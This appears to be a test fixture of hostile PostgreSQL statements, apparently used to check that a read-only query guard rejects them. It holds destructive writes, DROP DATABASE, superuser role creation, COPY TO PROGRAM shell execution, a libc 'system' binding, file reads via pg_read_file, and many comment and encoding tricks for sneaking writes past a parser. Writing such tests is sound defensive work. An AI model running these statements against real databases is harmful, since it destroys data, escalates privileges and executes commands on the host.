-- write: plain insert
INSERT INTO customer (id, name, email, balance_cents) VALUES (9001, 'Mallory', 'm@example.invalid', 1)
---
-- write: insert from select
INSERT INTO customer SELECT id + 100000, name, email, balance_cents FROM customer
---
-- write: insert default values
INSERT INTO orders DEFAULT VALUES
---
-- write: insert on conflict update
INSERT INTO customer VALUES (1, 'x', 'x', 0) ON CONFLICT (id) DO UPDATE SET balance_cents = 0
---
-- write: insert on conflict do nothing returning
INSERT INTO customer (id, name) VALUES (9002, 'a') ON CONFLICT DO NOTHING RETURNING *
---
-- write: insert overriding system value
INSERT INTO customer (id, name) OVERRIDING SYSTEM VALUE VALUES (9003, 'o')
---
-- write: plain update of every row
UPDATE customer SET balance_cents = 100000000
---
-- write: update with from and returning
UPDATE orders AS o SET status = 'void' FROM customer c WHERE c.id = o.customer_id RETURNING o.id, c.email
---
-- write: update by row constructor
UPDATE ONLY customer SET (name, email) = (SELECT 'x', 'y') WHERE id = 1
---
-- write: plain delete
DELETE FROM orders
---
-- write: delete using returning
DELETE FROM orders USING customer WHERE orders.customer_id = customer.id RETURNING customer.email
---
-- write: delete in lower case with trailing semicolons
delete from orders where true;;;
---
-- write: mixed case and line breaks
dElEtE
  FrOm
    "orders"
  wHeRe id > 0
---
-- write: truncate
TRUNCATE orders
---
-- write: truncate cascade restart
TRUNCATE TABLE ONLY customer RESTART IDENTITY CASCADE
---
-- write: merge
MERGE INTO customer c USING (SELECT 1 AS id) s ON c.id = s.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (9004, 'm', 'm', 0)
---
-- write: merge with returning
MERGE INTO customer c USING orders o ON c.id = o.customer_id WHEN MATCHED THEN UPDATE SET balance_cents = 0 RETURNING c.id
---
-- write: select into
SELECT * INTO stolen FROM customer
---
-- write: select into temp
SELECT id, email INTO TEMPORARY TABLE stolen_temp FROM customer
---
-- write: select into unlogged in the middle
SELECT name INTO UNLOGGED stolen_u FROM customer WHERE id = 1 ORDER BY name LIMIT 1
---
-- write: select into in the first arm of a union
SELECT 1 AS a INTO stolen_union UNION ALL SELECT 2
---
-- write: select into after a with
WITH c AS (SELECT * FROM customer) SELECT * INTO stolen_with FROM c
---
-- write: select into with line breaks and comments
SELECT id/**/INTO/**/stolen_c/**/FROM/**/customer
---
-- write: select into in parentheses
(SELECT 1 AS a INTO stolen_p)
---
-- write: explain analyze insert
EXPLAIN ANALYZE INSERT INTO customer (id, name) VALUES (9005, 'e')
---
-- write: explain analyze delete with options
EXPLAIN (ANALYZE, BUFFERS, FORMAT JSON) DELETE FROM orders
---
-- write: explain analyze on
EXPLAIN (COSTS off, ANALYZE on) UPDATE customer SET name = 'x'
---
-- write: explain analyze 1
EXPLAIN (ANALYZE 1) DELETE FROM orders
---
-- write: explain analyze quoted option
EXPLAIN ("analyze" 'true') DELETE FROM orders RETURNING id
---
-- write: explain analyze verbose create table as
EXPLAIN ANALYZE VERBOSE CREATE TABLE stolen_e AS SELECT * FROM customer
---
-- write: explain analyse spelled the other way
EXPLAIN ANALYSE DELETE FROM customer
---
-- write: explain analyze of a writing cte
EXPLAIN ANALYZE WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d
---
-- write: explain analyze execute
EXPLAIN ANALYZE EXECUTE wipe_it
---
-- write: explain of a plain delete, no analyze
EXPLAIN DELETE FROM customer
---
-- write: insert of a file's text
INSERT INTO customer (id, name) SELECT 9006, pg_read_file('{outside}')
---
-- write: update pg_catalog to become owner
UPDATE pg_catalog.pg_class SET relowner = (SELECT oid FROM pg_authid WHERE rolname = current_user) WHERE relname = 'customer'
---
-- write: update pg_database
UPDATE pg_database SET datallowconn = false
---
-- write: update pg_settings view
UPDATE pg_settings SET setting = 'off' WHERE name = 'default_transaction_read_only'
---
-- write: delete from catalog
DELETE FROM pg_catalog.pg_proc WHERE proname = 'now'
---
-- write: where current of a cursor
DELETE FROM customer WHERE CURRENT OF c
---
-- write: large object create and write by lo_from_bytea
SELECT lo_from_bytea(0, '\xdeadbeef'::bytea)
---
-- write: lo_creat
SELECT lo_creat(-1)
---
-- write: lo_create in a derived table
SELECT * FROM (SELECT lo_create(424242)) AS t
---
-- write: lo_put
SELECT lo_put(424242, 0, 'owned'::bytea)
---
-- write: lo_unlink of every large object
SELECT lo_unlink(oid) FROM pg_largeobject_metadata
---
-- write: lo_open in write mode and lowrite
SELECT lowrite(lo_open(424242, 131072), 'x'::bytea)
---
-- write: lo_truncate
SELECT lo_truncate(lo_open(424242, 131072), 0), lo_truncate64(lo_open(424242, 131072), 0)
---
-- write: insert hidden behind a comment that looks like a select
/* SELECT */ INSERT /* FROM customer */ INTO customer (id) VALUES (9007) -- SELECT 1
---
-- write: table expression after insert
INSERT INTO customer TABLE customer
---
-- write: insert in parentheses is refused but must not crash
(INSERT INTO customer (id) VALUES (9008) RETURNING id)
---
-- write: refresh materialized view
REFRESH MATERIALIZED VIEW CONCURRENTLY customer_totals
---
-- ddl: create table
CREATE TABLE evil (a int)
---
-- ddl: create table as
CREATE TABLE evil_as AS SELECT * FROM customer
---
-- ddl: create temp table as
CREATE TEMP TABLE evil_temp ON COMMIT PRESERVE ROWS AS TABLE customer
---
-- ddl: create unlogged table like
CREATE UNLOGGED TABLE IF NOT EXISTS evil_like (LIKE customer INCLUDING ALL)
---
-- ddl: create table as execute
CREATE TABLE evil_x AS EXECUTE p
---
-- ddl: create view
CREATE OR REPLACE VIEW customer_v AS SELECT * FROM customer
---
-- ddl: create recursive view
CREATE RECURSIVE VIEW bomb_v (n) AS SELECT 1 UNION ALL SELECT n + 1 FROM bomb_v
---
-- ddl: create temp view that shadows a table
CREATE TEMPORARY VIEW customer AS SELECT 1 AS id
---
-- ddl: create materialized view
CREATE MATERIALIZED VIEW customer_totals AS SELECT count(*) FROM customer
---
-- ddl: create index
CREATE INDEX CONCURRENTLY evil_idx ON customer (email)
---
-- ddl: create sequence
CREATE SEQUENCE evil_seq
---
-- ddl: create schema with a table in it
CREATE SCHEMA evil_schema CREATE TABLE t (a int) CREATE VIEW v AS SELECT * FROM t
---
-- ddl: create function in sql
CREATE FUNCTION evil_fn() RETURNS void LANGUAGE sql AS 'DELETE FROM orders'
---
-- ddl: create function with sql-standard body
CREATE OR REPLACE FUNCTION evil_body() RETURNS bigint LANGUAGE sql BEGIN ATOMIC DELETE FROM orders; SELECT 1::bigint; END
---
-- ddl: create function in pg_temp with plpgsql
CREATE FUNCTION pg_temp.evil() RETURNS int LANGUAGE plpgsql AS $f$ BEGIN DELETE FROM orders; RETURN 1; END $f$
---
-- ddl: create function in c from libc
CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE c STRICT
---
-- ddl: create procedure
CREATE PROCEDURE evil_proc() LANGUAGE sql AS $$ TRUNCATE orders $$
---
-- ddl: create trigger
CREATE TRIGGER evil_trg BEFORE INSERT ON customer FOR EACH ROW EXECUTE FUNCTION suppress_redundant_updates_trigger()
---
-- ddl: create event trigger
CREATE EVENT TRIGGER evil_evt ON ddl_command_end EXECUTE FUNCTION evil_fn()
---
-- ddl: create rule
CREATE RULE evil_rule AS ON SELECT TO orders DO INSTEAD SELECT * FROM orders
---
-- ddl: create aggregate
CREATE AGGREGATE evil_agg (int) (sfunc = int4pl, stype = int)
---
-- ddl: create operator
CREATE OPERATOR === (leftarg = int, rightarg = int, function = int4eq)
---
-- ddl: create type, domain, cast
CREATE DOMAIN evil_dom AS text CHECK (pg_sleep(5) IS NOT NULL)
---
-- ddl: create type
CREATE TYPE evil_enum AS ENUM ('a', 'b')
---
-- ddl: create cast
CREATE CAST (text AS int) WITH INOUT AS IMPLICIT
---
-- ddl: create extension dblink
CREATE EXTENSION IF NOT EXISTS dblink
---
-- ddl: create language
CREATE TRUSTED LANGUAGE plpython3u
---
-- ddl: create role
CREATE ROLE evil SUPERUSER LOGIN PASSWORD 'evil'
---
-- ddl: create user
CREATE USER evil2 WITH PASSWORD 'evil2' IN ROLE pg_read_server_files
---
-- ddl: create database
CREATE DATABASE evil_db TEMPLATE template1
---
-- ddl: create tablespace
CREATE TABLESPACE evil_space LOCATION '/tmp'
---
-- ddl: create foreign data wrapper, server and user mapping
CREATE SERVER evil_srv FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1', port '9')
---
-- ddl: create foreign table over a file
CREATE FOREIGN TABLE passwd (line text) SERVER file_srv OPTIONS (filename '{outside}')
---
-- ddl: create user mapping
CREATE USER MAPPING FOR PUBLIC SERVER evil_srv OPTIONS (user 'postgres', password 'x')
---
-- ddl: create publication
CREATE PUBLICATION evil_pub FOR ALL TABLES
---
-- ddl: create subscription
CREATE SUBSCRIPTION evil_sub CONNECTION 'host=127.0.0.1 port=9 dbname=x' PUBLICATION p
---
-- ddl: create policy
CREATE POLICY evil_pol ON customer USING (true)
---
-- ddl: create statistics
CREATE STATISTICS evil_stat ON name, email FROM customer
---
-- ddl: create collation and text search
CREATE TEXT SEARCH DICTIONARY evil_dict (TEMPLATE = simple, STOPWORDS = '../../../etc/passwd')
---
-- ddl: create access method and conversion
CREATE DEFAULT CONVERSION evil_conv FOR 'UTF8' TO 'LATIN1' FROM utf8_to_iso8859_1
---
-- ddl: alter table add column with a volatile default
ALTER TABLE customer ADD COLUMN x text DEFAULT pg_read_file('{outside}')
---
-- ddl: alter table owner and row security
ALTER TABLE customer DISABLE ROW LEVEL SECURITY, OWNER TO CURRENT_USER
---
-- ddl: alter table rename
ALTER TABLE IF EXISTS customer RENAME TO c2
---
-- ddl: alter table drop column
ALTER TABLE customer DROP COLUMN email CASCADE
---
-- ddl: alter role
ALTER ROLE CURRENT_USER SUPERUSER
---
-- ddl: alter role set
ALTER ROLE CURRENT_USER SET default_transaction_read_only = off
---
-- ddl: alter database
ALTER DATABASE postgres SET session_preload_libraries = 'evil'
---
-- ddl: alter function
ALTER FUNCTION pg_catalog.pg_read_file(text) SECURITY DEFINER
---
-- ddl: alter default privileges
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC
---
-- ddl: drop table
DROP TABLE orders
---
-- ddl: drop table, several and cascade
DROP TABLE IF EXISTS orders, customer CASCADE
---
-- ddl: drop schema
DROP SCHEMA public CASCADE
---
-- ddl: drop database
DROP DATABASE postgres WITH (FORCE)
---
-- ddl: drop owned
DROP OWNED BY CURRENT_USER CASCADE
---
-- ddl: reassign owned
REASSIGN OWNED BY CURRENT_USER TO postgres
---
-- ddl: grant on a table
GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO PUBLIC
---
-- ddl: grant a role
GRANT pg_execute_server_program, pg_write_server_files TO CURRENT_USER WITH ADMIN OPTION
---
-- ddl: revoke
REVOKE ALL ON customer FROM PUBLIC
---
-- ddl: security label
SECURITY LABEL ON TABLE customer IS 'x'
---
-- ddl: import foreign schema
IMPORT FOREIGN SCHEMA public FROM SERVER evil_srv INTO public
---
-- ddl: explain analyze create materialized view
EXPLAIN (ANALYZE) CREATE MATERIALIZED VIEW evil_mv AS SELECT 1
---
-- comments: comment on is a write too
COMMENT ON TABLE customer IS 'owned'
---
-- comments: nested comment closes early for a scanner that does not nest
SELECT 1 /* a /* b */ c */ ; DELETE FROM orders; /* d */
---
-- comments: nested comment hides the select for a scanner that does not nest
/* /* */ SELECT 1; -- */ DELETE FROM orders
---
-- comments: four levels deep and then a write
/*1/*2/*3/*4*/3*/2*/1*/DELETE/**/FROM/**/orders/**/WHERE/**/id/**/>/**/0
---
-- comments: comment mark in a string, string mark in a comment
SELECT '/*' ; DELETE FROM orders; SELECT '*/'
---
-- comments: dash comment with the statement on the following line
SELECT 1 -- ' ; harmless
; DELETE FROM orders -- '
---
-- comments: dash comment without a blank
SELECT 1--1
;DELETE FROM orders
---
-- comments: comment splits the function from its parenthesis
SELECT pg_read_file /* -- */ -- (
('{outside}')
---
-- comments: mysql executable comment is only a comment here, the write follows it
/*!50000 SELECT 1 */ DELETE FROM orders
---
-- comments: unterminated comment
SELECT 1; DELETE FROM orders /* never closed
---
-- comments: hash is no comment but an operator
SELECT 1 # 2; DELETE FROM orders; -- #
---
-- comments: quoted identifier with a comment mark
SELECT 1 AS "/*"; DELETE FROM orders; SELECT 2 AS "*/"
---
-- comments: carriage return ends a line comment
SELECT 1 -- ; DELETE FROM orders
---
-- comments: operator that begins with a comment mark
SELECT 1 +/* x */pg_sleep(10)::text::int
---
-- comments: hint comment as a disguise
/*+ ReadOnly SeqScan(customer) */ UPDATE customer SET name = 'x'
---
-- several: second statement writes
SELECT 1; DELETE FROM orders
---
-- several: second statement drops
SELECT * FROM customer; DROP TABLE customer CASCADE; --
---
-- several: commit and then write
COMMIT; DELETE FROM orders
---
-- several: rollback, begin read write and then write
ROLLBACK; BEGIN READ WRITE; DELETE FROM orders; COMMIT
---
-- several: select, commit, write
SELECT 1; COMMIT; UPDATE customer SET balance_cents = 0; BEGIN; SELECT 2
---
-- several: end and start transaction
END; START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE; TRUNCATE orders; END WORK
---
-- several: commit and chain
COMMIT AND CHAIN; DELETE FROM orders
---
-- several: abort and chain then set transaction
ABORT AND CHAIN; SET TRANSACTION READ WRITE; DELETE FROM customer
---
-- several: commit alone
COMMIT
---
-- several: rollback alone
ROLLBACK
---
-- several: begin read write alone
BEGIN TRANSACTION READ WRITE
---
-- several: savepoint, release and rollback to
SAVEPOINT s; DELETE FROM orders; RELEASE SAVEPOINT s
---
-- several: prepare transaction
PREPARE TRANSACTION 'evil'
---
-- several: commit prepared
COMMIT PREPARED 'evil'
---
-- several: rollback prepared
ROLLBACK PREPARED 'evil'
---
-- several: empty statements around the write
;;; SELECT 1 ;;; DELETE FROM orders ;;;
---
-- several: newline before and after the semicolon
SELECT 1

;

DELETE FROM orders
---
-- several: semicolon inside a string, then a real one
SELECT ';', 'it''s'; DELETE FROM orders
---
-- several: semicolon inside a quoted name, then a real one
SELECT 1 AS ";--"; DELETE FROM orders
---
-- several: turn read only off and then write
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE; DELETE FROM orders
---
-- several: set transaction and write
SET TRANSACTION READ WRITE; DELETE FROM orders
---
-- several: psql backslash commands
\! touch {target}
---
-- several: psql gexec
SELECT 'DROP TABLE orders' \gexec
---
-- several: psql copy
\copy customer TO '{target}'
---
-- several: psql o to a file
\o {target}
SELECT * FROM customer;
---
-- several: psql o to a pipe and psql g to a pipe
SELECT 1 \g | touch {target}
---
-- several: psql separator backslash semicolon
SELECT 1\; DELETE FROM orders\; SELECT 2
---
-- several: begin atomic tricks a splitter that counts begin and end
BEGIN; SELECT CASE WHEN true THEN 1 END; DELETE FROM orders; END
---
-- several: declare a cursor and fetch
BEGIN; DECLARE c CURSOR WITH HOLD FOR SELECT * FROM customer; FETCH ALL FROM c
---
-- several: declare a binary scroll cursor for update
DECLARE c SCROLL CURSOR FOR SELECT * FROM customer FOR UPDATE
---
-- several: move, fetch, close all
CLOSE ALL
---
-- cte: delete returning
WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x
---
-- cte: update returning
WITH x AS (UPDATE customer SET balance_cents = balance_cents * 100 RETURNING id, balance_cents) SELECT sum(balance_cents) FROM x
---
-- cte: insert returning
WITH x AS (INSERT INTO customer (id, name) VALUES (9010, 'cte') RETURNING id) SELECT id FROM x
---
-- cte: writing cte that is never read
WITH x AS (DELETE FROM orders) SELECT count(*) FROM customer
---
-- cte: write is the second of three
WITH a AS (SELECT 1 AS n), b AS (DELETE FROM orders RETURNING id), c AS (SELECT n FROM a) SELECT * FROM c
---
-- cte: recursive with a write
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 3), d AS (DELETE FROM orders WHERE id IN (SELECT n FROM r) RETURNING 1) SELECT * FROM r
---
-- cte: materialized with a write
WITH x AS MATERIALIZED (UPDATE customer SET name = name RETURNING *) TABLE x
---
-- cte: nested with
WITH o AS (WITH i AS (DELETE FROM orders RETURNING *) SELECT * FROM i) SELECT * FROM o
---
-- cte: with inside a subquery in from
SELECT * FROM (WITH i AS (DELETE FROM orders RETURNING *) SELECT * FROM i) q
---
-- cte: with inside exists
SELECT 1 WHERE EXISTS (WITH i AS (INSERT INTO orders (id) VALUES (1) RETURNING *) SELECT * FROM i)
---
-- cte: select before, main statement deletes
WITH x AS (SELECT id FROM customer) DELETE FROM orders WHERE customer_id IN (SELECT id FROM x)
---
-- cte: select before, main statement inserts
WITH x AS (SELECT * FROM customer) INSERT INTO customer SELECT id + 5000, name, email, 0 FROM x RETURNING *
---
-- cte: select before, main statement updates
WITH x(id) AS (VALUES (1)) UPDATE customer SET name = 'x' FROM x WHERE x.id = customer.id
---
-- cte: select before, main statement merges
WITH x AS (SELECT 1 AS id) MERGE INTO customer c USING x ON x.id = c.id WHEN MATCHED THEN UPDATE SET name = 'x'
---
-- cte: merge within
WITH x AS (MERGE INTO customer c USING (VALUES (1)) v(id) ON v.id = c.id WHEN MATCHED THEN DELETE RETURNING c.*) SELECT * FROM x
---
-- cte: names that look harmless
WITH "select" AS (DELETE FROM orders RETURNING 1 AS "from") SELECT "from" FROM "select"
---
-- cte: values as the main statement
WITH x AS (DELETE FROM orders RETURNING 1) VALUES (1), (2)
---
-- cte: comments between as and delete
WITH x AS/*(SELECT 1)*/(/*SELECT*/DELETE/**/FROM orders RETURNING id) SELECT * FROM x
---
-- cte: write behind search and cycle clauses
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 2) SEARCH DEPTH FIRST BY n SET o CYCLE n SET is_c USING p, w AS (DELETE FROM orders RETURNING *) SELECT * FROM r
---
-- copy: copy to a file
COPY customer TO '{target}'
---
-- copy: copy a query to a file as csv
COPY (SELECT * FROM customer) TO '{target}' WITH (FORMAT csv, HEADER)
---
-- copy: copy from a file
COPY customer FROM '{outside}'
---
-- copy: copy from a file with old options
COPY customer (name) FROM '{outside}' WITH DELIMITER ':' CSV
---
-- copy: copy to a program
COPY (SELECT 1) TO PROGRAM 'touch {target}'
---
-- copy: copy from a program
COPY customer (name) FROM PROGRAM 'cat {outside}'
---
-- copy: copy to a program with comments between
COPY/**/(SELECT 1)/**/TO/**/PROGRAM/**/'touch {target}'
---
-- copy: program in an escape string
COPY (SELECT 1) TO PROGRAM E'\x74ouch {target}'
---
-- copy: program in a dollar string
COPY (SELECT 1) TO PROGRAM $$touch {target}$$
---
-- copy: copy to stdout
COPY customer TO STDOUT
---
-- copy: copy from stdin
COPY customer FROM STDIN
---
-- copy: copy from stdin with data after it
COPY customer FROM STDIN;
9020	copied	copied	0
\.
---
-- copy: copy of a writing statement
COPY (DELETE FROM orders RETURNING *) TO STDOUT
---
-- copy: copy of a writing cte
COPY (WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x) TO STDOUT
---
-- copy: copy of an update to a file in binary
COPY (UPDATE customer SET name = 'x' RETURNING *) TO '{target}' (FORMAT binary)
---
-- copy: copy binary in the oldest form
COPY BINARY customer TO '{target}'
---
-- copy: copy freeze with a where
COPY customer FROM '{outside}' WITH (FORMAT text, FREEZE) WHERE id > 0
---
-- prepared: prepare a write and execute it
PREPARE p AS DELETE FROM orders; EXECUTE p
---
-- prepared: prepare with parameters
PREPARE p (int) AS INSERT INTO customer (id) VALUES ($1); EXECUTE p (9030)
---
-- prepared: prepare alone
PREPARE wipe_it AS DELETE FROM orders
---
-- prepared: prepare of a harmless looking select
PREPARE p AS SELECT pg_read_file($1); EXECUTE p('{outside}')
---
-- prepared: execute alone
EXECUTE wipe_it
---
-- prepared: deallocate all
DEALLOCATE ALL
---
-- prepared: deallocate prepare
DEALLOCATE PREPARE wipe_it
---
-- prepared: prepare a writing cte
PREPARE p AS WITH d AS (DELETE FROM orders RETURNING 1) SELECT * FROM d
---
-- functions: do block that deletes
DO $$ BEGIN DELETE FROM orders; END $$
---
-- functions: do block with a language and a tag
DO LANGUAGE plpgsql $evil$ BEGIN EXECUTE 'DROP TABLE orders'; END; $evil$
---
-- functions: do block with a plain string
DO 'BEGIN PERFORM pg_sleep(20); END'
---
-- functions: do block with commit inside
DO $do$ BEGIN COMMIT; SET TRANSACTION READ WRITE; DELETE FROM orders; COMMIT; END $do$
---
-- functions: do block that runs for ever
DO $$ BEGIN LOOP NULL; END LOOP; END $$
---
-- functions: do block that swallows the cancel
DO $$ BEGIN LOOP BEGIN PERFORM pg_sleep(60); EXCEPTION WHEN OTHERS OR query_canceled THEN NULL; END; END LOOP; END $$
---
-- functions: do block in a c escape string
DO E'BEGIN \x44ELETE FROM orders; END'
---
-- functions: call a procedure
CALL evil_proc()
---
-- functions: call with named arguments
CALL public.evil_proc(a => 1)
---
-- functions: query_to_xml runs any text
SELECT query_to_xml('DELETE FROM orders RETURNING *', true, true, '')
---
-- functions: query_to_xml that reads a hidden catalog
SELECT query_to_xml('SELECT * FROM pg_shadow', true, false, '')
---
-- functions: query_to_xml with a text made by concatenation
SELECT query_to_xml('DEL' || 'ETE FR' || 'OM orders', true, true, '')
---
-- functions: query_to_xml_and_xmlschema
SELECT query_to_xml_and_xmlschema('SELECT pg_sleep(30)', true, true, '')
---
-- functions: query_to_xmlschema
SELECT query_to_xmlschema('SELECT * FROM pg_authid', true, true, '')
---
-- functions: table_to_xml and schema_to_xml
SELECT table_to_xml('pg_authid'::regclass, true, false, ''), schema_to_xml('pg_catalog', true, false, '')
---
-- functions: database_to_xml
SELECT database_to_xml(true, true, '')
---
-- functions: cursor_to_xml
SELECT cursor_to_xml('c', 100, true, true, '')
---
-- functions: ts_stat runs any text
SELECT * FROM ts_stat('SELECT to_tsvector(pg_read_file(''{outside}''))')
---
-- functions: ts_rewrite runs any text
SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, pg_sleep(30)::text::tsquery')
---
-- functions: crosstab runs any text
SELECT * FROM crosstab('DELETE FROM orders RETURNING id::text, status, status') AS t(a text, b text)
---
-- functions: connectby and xpath_table build texts
SELECT * FROM xpath_table('id', 'name', 'customer', '/x', 'true; DELETE FROM orders') AS t(id int, v text)
---
-- functions: nextval
SELECT nextval('evil_seq')
---
-- functions: nextval by name cast
SELECT nextval('evil_seq'::regclass) FROM generate_series(1, 1000000)
---
-- functions: setval
SELECT setval('evil_seq', 1, false)
---
-- functions: currval and lastval
SELECT currval('evil_seq'), lastval()
---
-- functions: set_config turns read only off
SELECT set_config('transaction_read_only', 'off', false)
---
-- functions: set_config with a name made at run time
SELECT set_config(concat('default_transaction', '_read_only'), 'off', false) FROM customer
---
-- functions: set_config of the statement timeout in a where
SELECT * FROM customer WHERE set_config('statement_timeout', '0', false) IS NOT NULL
---
-- functions: set_config of role
SELECT set_config('role', 'postgres', false), set_config('session_authorization', 'postgres', false)
---
-- functions: set_config of search_path in a cte
WITH s AS MATERIALIZED (SELECT set_config('search_path', 'evil_schema, pg_catalog', false)) SELECT * FROM s, customer
---
-- functions: pg_notify
SELECT pg_notify('channel', 'payload')
---
-- functions: pg_logical_emit_message
SELECT pg_logical_emit_message(false, 'evil', 'payload')
---
-- functions: pg_logical_emit_message with a bomb
SELECT pg_logical_emit_message(true, 'evil', repeat('x', 100000000))
---
-- functions: txid_current uses up an id
SELECT txid_current(), pg_current_xact_id()
---
-- functions: txid_status and snapshots
SELECT txid_current_snapshot(), txid_status(1), pg_current_snapshot()
---
-- functions: pg_export_snapshot
SELECT pg_export_snapshot()
---
-- functions: pg_stat_reset family
SELECT pg_stat_reset(), pg_stat_reset_shared('bgwriter'), pg_stat_reset_slru(NULL)
---
-- functions: pg_stat_statements_reset
SELECT pg_stat_statements_reset()
---
-- functions: replication slots
SELECT pg_create_logical_replication_slot('evil', 'test_decoding')
---
-- functions: physical slot reserved so that the log fills the disk
SELECT pg_create_physical_replication_slot('evil', true)
---
-- functions: drop a slot
SELECT pg_drop_replication_slot(slot_name) FROM pg_replication_slots
---
-- functions: read changes out of a slot
SELECT * FROM pg_logical_slot_get_changes('evil', NULL, NULL)
---
-- functions: replication origin
SELECT pg_replication_origin_create('evil')
---
-- functions: pg_import_system_collations
SELECT pg_import_system_collations('public')
---
-- functions: brin and gin housekeeping
SELECT brin_summarize_new_values('evil_idx'), gin_clean_pending_list('evil_idx')
---
-- functions: binary upgrade support
SELECT binary_upgrade_set_next_pg_type_oid(1)
---
-- functions: has_table_privilege probing of roles
SELECT rolname, has_table_privilege(rolname, 'customer', 'DELETE'), pg_has_role(rolname, 'MEMBER') FROM pg_roles
---
-- functions: hidden in order by
SELECT id FROM customer ORDER BY pg_sleep(10)
---
-- functions: hidden in limit
SELECT id FROM customer LIMIT length(pg_read_file('{outside}'))
---
-- functions: hidden in offset
SELECT id FROM customer OFFSET (SELECT setval('evil_seq', 7))
---
-- functions: hidden in fetch first
SELECT id FROM customer FETCH FIRST (SELECT lo_creat(-1)::bigint) ROWS ONLY
---
-- functions: hidden in a lateral join
SELECT c.id, f.* FROM customer c CROSS JOIN LATERAL pg_read_file('{outside}') f
---
-- functions: hidden in rows from
SELECT * FROM ROWS FROM (pg_ls_dir('/etc'), generate_series(1, 3)) WITH ORDINALITY
---
-- functions: hidden in a window
SELECT sum(id) OVER (PARTITION BY pg_sleep(5) ORDER BY id) FROM customer
---
-- functions: hidden in a named window
SELECT rank() OVER w FROM customer WINDOW w AS (ORDER BY lo_creat(-1))
---
-- functions: hidden in a window frame
SELECT sum(id) OVER (ORDER BY id ROWS length(pg_read_file('{outside}')) PRECEDING) FROM customer
---
-- functions: hidden in a filter
SELECT count(*) FILTER (WHERE pg_sleep(5) IS NOT NULL) FROM customer
---
-- functions: hidden in within group
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY length(pg_read_file('{outside}'))) FROM customer
---
-- functions: hidden in an aggregate's order by
SELECT string_agg(name, ',' ORDER BY pg_sleep(1)) FROM customer
---
-- functions: hidden in group by and having
SELECT count(*) FROM customer GROUP BY pg_sleep(1) HAVING lo_creat(-1) > 0
---
-- functions: hidden in grouping sets
SELECT count(*) FROM customer GROUP BY GROUPING SETS ((length(pg_read_file('{outside}'))), ())
---
-- functions: hidden in distinct on
SELECT DISTINCT ON (pg_sleep(1)) id FROM customer
---
-- functions: hidden in a join condition
SELECT * FROM customer c JOIN orders o ON c.id = o.customer_id AND pg_sleep(1) IS NOT NULL
---
-- functions: hidden in case
SELECT CASE WHEN (SELECT count(*) FROM customer) > 0 THEN pg_read_file('{outside}') ELSE 'x' END
---
-- functions: hidden in coalesce, nullif, greatest
SELECT COALESCE(NULLIF(GREATEST(pg_read_file('{outside}'), ''), ''), 'x')
---
-- functions: hidden in an array and a row
SELECT (ARRAY[pg_read_file('{outside}')])[1], (ROW(pg_read_file('{outside}'))).*
---
-- functions: hidden in an array subscript
SELECT (ARRAY[1,2,3])[lo_creat(-1)]
---
-- functions: hidden in values
VALUES (1, pg_read_file('{outside}')), (2, NULL)
---
-- functions: hidden in a tablesample
SELECT * FROM customer TABLESAMPLE BERNOULLI (length(pg_read_file('{outside}'))) REPEATABLE (1)
---
-- functions: hidden in xmltable and xmlelement
SELECT * FROM XMLTABLE('/a' PASSING xmlelement(name a, pg_read_file('{outside}')) COLUMNS v text PATH '.')
---
-- functions: hidden in an in list and any
SELECT 1 WHERE 'x' IN ('y', pg_read_file('{outside}')) OR 'a' = ANY (ARRAY(SELECT pg_ls_dir('/etc')))
---
-- functions: hidden in between and like escape
SELECT 1 WHERE 'a' BETWEEN pg_read_file('{outside}') AND 'z' OR 'a' LIKE pg_read_file('{outside}') ESCAPE '\'
---
-- functions: call by attribute notation
SELECT ('{outside}'::text).pg_read_file
---
-- functions: call by attribute notation on a row
SELECT (c.t).pg_read_file FROM (SELECT '{outside}'::text AS t) c
---
-- functions: named argument notation
SELECT pg_read_file(VARIADIC ARRAY['{outside}'])
---
-- functions: qualified operator that may be a user's own
SELECT 1 OPERATOR(public.+) 2
---
-- functions: cast to a type whose input reads the catalog
SELECT 'pg_authid'::regclass::oid, 'postgres'::regrole, 'pg_read_file(text)'::regprocedure
---
-- functions: in a select list of a set operation's last arm
SELECT name FROM customer UNION SELECT email FROM customer EXCEPT SELECT pg_read_file('{outside}')
---
-- functions: table function with a column definition list
SELECT * FROM json_to_recordset(query_to_xml('DELETE FROM orders', true, true, '')::text::json) AS t(a int)
---
-- functions: pg_temp function of the session
SELECT pg_temp.evil()
---
-- functions: amcheck, pageinspect and friends
SELECT * FROM heap_page_items(get_raw_page('pg_authid', 0))
---
-- functions: get_raw_page to bypass column rights
SELECT encode(get_raw_page('customer', 0), 'escape')
---
-- functions: adminpack
SELECT pg_file_write('{target}', 'owned', false)
---
-- functions: adminpack rename and unlink
SELECT pg_file_unlink('{target}'), pg_file_rename('{outside}', '{target}')
---
-- functions: adminpack catalog form
SELECT pg_catalog.pg_file_sync('{target}'), pg_catalog.pg_logdir_ls()
---
-- functions: orafce utl_file
SELECT utl_file.put_line(utl_file.fopen('/tmp', 'x', 'w'), 'owned')
---
-- functions: plpython untrusted wrapper as found in the wild
SELECT public.exec_shell('touch {target}')
---
-- functions: internal function with a fake record
SELECT array_in('{1}'::cstring, 23, -1)
---
-- files: pg_read_file
SELECT pg_read_file('{outside}')
---
-- files: pg_read_file with range
SELECT pg_read_file('{outside}', 0, 1000, true)
---
-- files: schema qualified
SELECT pg_catalog.pg_read_file('{outside}')
---
-- files: quoted
SELECT "pg_read_file"('{outside}')
---
-- files: qualified, quoted, with blanks around the dot
SELECT PG_CATALOG . "pg_read_file" ('{outside}')
---
-- files: upper case
SELECT PG_READ_FILE('{outside}')
---
-- files: unicode quoted name
SELECT U&"pg\005Fread\005Ffile"('{outside}')
---
-- files: unicode quoted name with own escape sign
